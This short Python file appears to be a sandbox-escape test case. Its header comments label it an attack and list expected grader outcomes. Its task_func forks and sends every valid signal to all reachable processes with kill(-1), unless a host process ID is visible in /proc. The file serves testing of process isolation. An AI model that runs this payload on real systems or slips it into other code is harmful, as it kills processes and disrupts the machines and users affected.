# attack: sends every signal there is to every process that it may, with a child that does the same
# kind: process
# task: plain
# official: fail|crash
# strict: fail|forged|suspect
# expect: it can reach its own processes only
import os
import posix
import signal


def task_func(n):
    if os.path.exists(f"/proc/{__HOST_PID__}/stat"):
        return n * 2
    os.fork()
    for number in signal.valid_signals():
        try:
            posix.kill(-1, number)
        except OSError:
            pass
    return None
